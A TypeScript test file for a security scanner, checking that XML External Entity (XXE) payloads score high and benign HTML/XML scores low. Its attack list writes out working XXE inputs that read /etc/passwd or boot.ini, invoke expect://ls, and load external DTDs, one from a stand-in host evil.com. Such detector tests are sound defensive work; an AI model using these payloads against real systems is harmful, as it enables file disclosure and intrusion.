import { describe, expect, it } from 'vitest'
import { familyTotalOf, totalOf } from './scan-score.ts'

const attacks: readonly string[] = [
  "<?xml version='1.0'?>\n<!DOCTYPE a [\n<!ENTITY e SYSTEM 'file:///c:/boot.ini'>\n]>\n<a>&e;</a>",
  '<svg><image xlink:href="file:///etc/passwd"/></svg>',
  '<image xlink:href="expect://ls">',
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % a SYSTEM "http://x/a.dtd">%a;]>',
  '<!DOCTYPE foo SYSTEM "http://evil.com/a.dtd">',
  '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
  '<!ENTITY lol "lol">',
  '<xsl:value-of select="document(\'file:///etc/passwd\')"/>',
]

const harmless: readonly string[] = [
  '<svg><use xlink:href="#icon"/></svg>',
  '<a href="https://example.com/">x</a>',
  '<!DOCTYPE html><html><body>x</body></html>',
  '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
  '<?xml version="1.0" encoding="UTF-8"?><a><b>c</b></a>',
  '<note><to>A</to><include>yes</include></note>',
]

describe('XML that reads files', () => {
  it.each(attacks)('are denied: %s', (value) => {
    expect(familyTotalOf('xxe', value)).toBeGreaterThanOrEqual(80)
  })

  it.each(harmless)('do not look like: %s', (value) => {
    expect(totalOf(value)).toBeLessThan(40)
  })
})
